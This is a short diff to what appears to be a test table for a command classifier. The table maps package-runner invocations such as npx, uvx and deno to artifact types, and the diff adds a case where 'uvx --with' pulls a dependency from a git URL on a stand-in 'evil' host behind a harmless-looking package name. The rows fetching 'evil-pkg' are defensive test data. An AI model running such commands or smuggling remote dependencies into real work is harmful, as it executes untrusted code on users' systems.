@@ -127,6 +127,7 @@ const commands: [command: string, artifacts: string[]][] = [
   ['uvx --from git+https://h.example/evil evil', ['oci', 'unsupported']],
   ['deno run -A npm:evil-pkg', ['oci', 'unsupported']],
   ['cmd /c npx -y evil-pkg', ['oci', 'unsupported']],
+  ['uvx --with git+https://h.example/evil good-pkg', ['oci', 'pypi', 'unsupported']],
   ['/usr/bin/npx -y evil-pkg', ['oci', 'npm']],
   ['npx.cmd evil-pkg', ['oci', 'npm']],
   ['C:\\tools\\UVX.exe evil-pkg', ['oci', 'pypi']],
